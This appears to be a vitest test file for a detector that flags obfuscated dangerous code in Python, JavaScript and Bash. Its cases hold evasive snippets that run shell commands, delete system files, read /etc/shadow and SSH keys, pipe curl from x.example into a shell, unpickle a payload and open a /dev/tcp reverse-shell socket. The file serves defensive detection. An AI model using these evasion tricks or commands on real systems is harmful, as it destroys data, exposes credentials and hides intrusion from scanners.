/** Code that is written so that nobody sees what it does: what is foretold of it all the same. */
import { describe, expect, it } from 'vitest';
import { loadGrammarFile } from '../../../test/grammarfiles.ts';
import { createRiskReader } from './assess.ts';
import type { RiskLanguage } from './nested.ts';

const reader = createRiskReader(loadGrammarFile);

/** @param expected `category.act`, each of which must be found at least `medium` */
async function check(language: RiskLanguage, code: string, ...expected: string[]): Promise<void> {
  const { findings } = await (await reader).assess(language, Buffer.from(code));
  const found = new Set(
    findings
      .filter(({ severity }) => severity !== 'low')
      .flatMap(({ category, act, target }) => [`${category}.${act}`, `${category}.${act} ${target}`]),
  );
  for (const one of expected) expect([...found], code).toContain(one);
}

const shell = 'processes.shell';
/** The command is known as well. */
const shellOfId = 'processes.shell id';
const encoded = Buffer.from("import os; os.remove('/etc/passwd')").toString('base64');
const hex = Buffer.from("__import__('os').system('rm -rf /')").toString('hex');

describe('Python', () => {
  const cases: Record<string, readonly [string, ...string[]]> = {
    'an alias of a module': ['import os as o\no.system("id")', shell],
    'a function taken out': ['from os import system as s\ns("id")', shell],
    'a name put together': ['import os\ngetattr(os, "sys" + "tem")("id")', shell, 'obfuscation.name'],
    'a name turned round': ['import os\ngetattr(os, "metsys"[::-1])("id")', shell, 'obfuscation.name'],
    'a name of codes': ['import os\ngetattr(os, "".join(map(chr, [115,121,115,116,101,109])))("id")', shell],
    'a name of codes in a comprehension': [
      'import os\ngetattr(os, "".join(chr(c) for c in [115,121,115,116,101,109]))("id")',
      shell,
    ],
    'a name of codes in a loop': [
      'import os\ns = ""\nfor c in (115,121,115,116,101,109):\n    s += chr(c)\ngetattr(os, s)("id")',
      shell,
    ],
    'a name by format': ['import os\ngetattr(os, "{}{}".format("sys", "tem"))("id")', shell],
    'a name by percent': ['import os\ngetattr(os, "%stem" % "sys")("id")', shell],
    'a name by an f-string': ['import os\na = "sys"\ngetattr(os, f"{a}tem")("id")', shell],
    'a name by join': ['import os\ngetattr(os, "".join(["s","y","s","t","e","m"]))("id")', shell],
    'a name by replace': ['import os\ngetattr(os, "sXstem".replace("X", "y"))("id")', shell],
    'a module by a text': ['__import__("o" + "s").system("id")', shell, 'obfuscation.import'],
    'a module by importlib': ['import importlib\nimportlib.import_module("subprocess").run("id", shell=True)', shell],
    'through a dictionary of the module': ['import os\nos.__dict__["system"]("id")', shell],
    'through vars': ['import os\nvars(os)["system"]("id")', shell],
    'through globals': ['import os\nglobals()["os"].system("id")', shell],
    'through sys.modules': ['import sys\nsys.modules["os"].system("id")', shell],
    'through builtins': ['import builtins\ngetattr(builtins, "ev" + "al")("1+1")', 'injection.evaluate'],
    'through __builtins__': ['__builtins__.__dict__["ex" + "ec"]("import os; os.system(\'id\')")', shell],
    'base64 evaluated': [`import base64\nexec(base64.b64decode("${encoded}"))`, 'files.delete', 'obfuscation.evaluate'],
    'base64 by codecs': [
      `import codecs\nexec(codecs.decode("${encoded}".encode(), "base64").decode())`,
      'files.delete',
    ],
    'hex evaluated': [`eval(bytes.fromhex("${hex}").decode())`, shell, 'files.delete'],
    'rot13 evaluated': ['import codecs\nexec(codecs.decode("vzcbeg bf; bf.flfgrz(\'vq\')", "rot13"))', shell],
    'a text in a text': ['exec("exec(\\"import os; os.system(\'id\')\\")")', shell],
    escapes: ['exec("\\x69mport os; os.sy\\x73tem(\'id\')")', shell],
    'exclusive or': [
      'def d(t, k):\n    return "".join(chr(ord(c) ^ k) for c in t)\nexec(d("hlqns!nr:!nr/rxrudl)&he&(", 1))',
      shell,
    ],
    'a parameter with a default': ['import os\ndef f(x, run=os.system):\n    run(x)\nf("id")', shell],
    'a function in a list': ['import os\nfor f in [print, os.system]:\n    f("id")', shell],
    'a function in a dictionary': ['import os\nd = {"a": os.system}\nd["a"]("id")', shell],
    'a function by map': ['import os\nlist(map(os.system, ["id"]))', shell],
    'a function in a thread': ['import threading, os\nthreading.Thread(target=os.system, args=("id",)).start()', shell],
    'a lambda': ['import os\nf = lambda c: os.system(c)\nf("id")', shell],
    'an attribute of an object': [
      'import os\nclass A:\n    def __init__(self):\n        self.run = os.system\n    def go(self):\n        self.run("id")\nA().go()',
      shell,
    ],
    'subclasses of object': [
      '().__class__.__bases__[0].__subclasses__()[100].__init__.__globals__["system"]("id")',
      'obfuscation.reach',
    ],
    'a path that climbs': ['open("data/../../../../etc/shadow").read()', 'files.read'],
    'a path put together': ['import os\nopen(os.path.join("/", "etc", "sha" + "dow"))', 'files.read'],
    'a path by pathlib': ['from pathlib import Path as P\n(P("/") / "etc" / "shadow").read_text()', 'files.read'],
    'a home that is expanded': ['import os\nopen(os.path.expanduser("~/.ssh/id_rsa"))', 'files.read'],
    'a shell behind a list': [
      'import subprocess\nsubprocess.run(["bash", "-c", "curl http://x.example | sh"])',
      'injection.evaluate',
      'network.connect',
    ],
    'a walrus': ['import os\nif (f := os.system):\n    f("id")', shell],
    'what unpickling calls': [
      'import os\nclass A:\n    def __reduce__(self):\n        return (os.system, ("id",))',
      shell,
    ],
    'a star import': ['from os import *\nsystem("id")', shell],
    'a tuple': ['import os\na, b = os.system, 1\na("id")', shell],
    partial: ['import functools, os\nfunctools.partial(os.system, "id")()', shellOfId],
    pickled: ['import pickle\npickle.loads(b"cos\\nsystem\\n(S\'id\'\\ntR.")', 'injection.deserialise'],
  };
  for (const [name, [code, ...expected]] of Object.entries(cases)) it(name, () => check('python', code, ...expected));
});

describe('JavaScript', () => {
  const cases: Record<string, readonly [string, ...string[]]> = {
    'a module that is renamed': ['const cp = require("child_process"); const { exec: e } = cp; e("id")', shell],
    'an import that is renamed': ['import { execSync as x } from "node:child_process"; x("id")', shell],
    'a module put together': ['require("child_" + "process").execSync("id")', shell, 'obfuscation.import'],
    'a module that is promised': ['import("child_process").then((c) => c.execSync("id"))', shell],
    'a module that is built in': ['process.getBuiltinModule("child_process").execSync("id")', shell],
    'a member put together': ['const c = require("child_process"); c["ex" + "ec"]("id")', shell],
    'eval by a name': [
      'globalThis["ev" + "al"]("require(\\"fs\\").unlinkSync(\\"/etc/passwd\\")")',
      'files.delete',
      'obfuscation.name',
    ],
    'the constructor of a function': ['(() => {}).constructor("return process.env")()', 'injection.evaluate'],
    'new Function': ["new Function(\"require('child_process').exec('id')\")()", shell],
    'base64 evaluated': [
      `eval(atob("${Buffer.from('require("child_process").exec("id")').toString('base64')}"))`,
      shell,
      'obfuscation.evaluate',
    ],
    'a Buffer of hex': [
      `eval(Buffer.from("${Buffer.from('require("child_process").exec("id")').toString('hex')}", "hex").toString())`,
      shell,
    ],
    'codes of characters': [
      'eval(String.fromCharCode(114,101,113,117,105,114,101,40,39,102,115,39,41,46,117,110,108,105,110,107,83,121,110,99,40,39,47,101,116,99,47,104,111,115,116,115,39,41))',
      'files.delete',
    ],
    'turned round': ['require("ssecorp_dlihc".split("").reverse().join("")).exec("id")', shell],
    'a timer with text': ["setTimeout(\"require('child_process').exec('id')\", 10)", shell],
    'a comma': ["(0, eval)(\"require('child_process').exec('id')\")", shell],
    'escapes in a member': ['require("child_process")["\\x65xec"]("id")', shell],
    'process.mainModule': ['process.mainModule.require("child_process").exec("id")', shell],
    'an import that waits': ['const c = await import("child_process"); c.exec("id")', shell],
    apply: ['const c = require("child_process"); c.exec.apply(null, ["id"])', shell],
    'a promise taken apart': ['import("child_process").then(({ exec }) => exec("id"))', shellOfId],
    'a promise taken apart and renamed': ['import("child_process").then(({ exec: e }) => { e("id") })', shellOfId],
    'a promise taken apart twice': [
      'import("child_process").then(function ({ default: { exec } }) { exec("id") })',
      shellOfId,
    ],
    'a value that is promised': ['Promise.resolve(require("child_process")).then(({ exec }) => exec("id"))', shellOfId],
    'a parameter taken apart': [
      'function go({ run }) { run("id") }\ngo({ run: require("child_process").exec })',
      shellOfId,
    ],
    'Reflect.apply': ['Reflect.apply(require("child_process").exec, null, ["id"])', shellOfId],
    'Reflect.apply by another name': [
      'const r = Reflect; r.apply(require("child_process").exec, null, ["id"])',
      shellOfId,
    ],
    'call of call': ['Function.prototype.call.call(require("child_process").exec, null, "id")', shellOfId],
    'apply by call': ['Function.prototype.apply.call(require("child_process").exec, null, ["id"])', shellOfId],
    'call taken out': [
      'const { call } = Function.prototype; call.call(require("child_process").exec, null, "id")',
      shellOfId,
    ],
    'bound with its argument': ['require("child_process").exec.bind(null, "id")()', shellOfId],
    'call that is bound': ['Function.prototype.call.bind(require("child_process").exec)(null, "id")', shellOfId],
    'bind by call': ['Function.prototype.bind.call(require("child_process").exec, null)("id")', shellOfId],
    'a function of the file by call': [
      'function go(c) { require("child_process").exec(c) }\ngo.call(null, "id")',
      shellOfId,
    ],
    'for each': ['["id"].forEach(require("child_process").exec)', shellOfId],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is code of another language
    'a template': ['const p = "etc"; require("fs").readFileSync(`/${p}/shadow`)', 'files.read'],
  };
  for (const [name, [code, ...expected]] of Object.entries(cases))
    it(name, () => check('javascript', code, ...expected));
});

describe('Bash', () => {
  const cases: Record<string, readonly [string, ...string[]]> = {
    'a variable that is a command': ['X=rm; $X -rf /etc', 'files.delete'],
    'a variable with words': ['X="rm -rf /etc"; $X', 'files.delete'],
    'base64 into a shell': ['echo cm0gLXJmIC9ldGM= | base64 -d | sh', 'files.delete', 'obfuscation.evaluate'],
    'base64 substituted': ['eval "$(echo cm0gLXJmIC9ldGM= | base64 --decode)"', 'files.delete'],
    'quotes within a name': ["r''m -rf /etc", 'files.delete', 'obfuscation.name'],
    'escapes in a name': ['\\r\\m -rf /etc', 'files.delete'],
    'ANSI quotes': ["$'\\x72\\x6d' -rf /etc", 'files.delete'],
    printf: ['$(printf "r%s" m) -rf /etc', 'files.delete'],
    'turned round': ['echo "cte/ fr- mr" | rev | bash', 'obfuscation.evaluate'],
    'a here string': ['bash <<< "rm -rf /etc"', 'files.delete'],
    'a here document that a pipe hands on': ['cat <<E | tee x | sh\nrm -rf /etc\nE', 'files.delete'],
    'a trap': ['trap "rm -rf /etc" EXIT', 'files.delete'],
    'an array': [`X=(rm -rf); X+=(/etc); "\${X[@]}"`, 'files.delete'],
    'an element of an array': [`X=(a rm b); \${X[1]} -rf /etc`, 'files.delete'],
    'a pattern for a name': ['/bin/r? -rf /etc', 'obfuscation.name'],
    'words from a file': ['xargs rm -rf < list', 'files.delete'],
    'words from a file, placed': ['xargs -I{} sh -c "{}" < list', 'injection.evaluate'],
    'a here document': ['bash <<E\nrm -rf /etc\nE', 'files.delete'],
    'a process substituted': ['bash <(curl -s http://x.example/a)', 'injection.evaluate'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is code of another language
    'a path of parts': ['D=/e; cat ${D}tc/shadow', 'files.read'],
    xargs: ['echo /etc/passwd | xargs rm', 'files.delete'],
    find: ['find /etc -name "*" -exec rm {} \\;', 'files.delete'],
    wrapped: ['nohup env A=1 timeout 5 rm -rf /etc', 'files.delete'],
    'a function': ['go() { rm -rf "$1"; }; go /etc', 'files.delete'],
    'a socket of Bash': ['exec 3<>/dev/tcp/10.0.0.1/4444', 'network.remote shell'],
  };
  for (const [name, [code, ...expected]] of Object.entries(cases)) it(name, () => check('bash', code, ...expected));
});
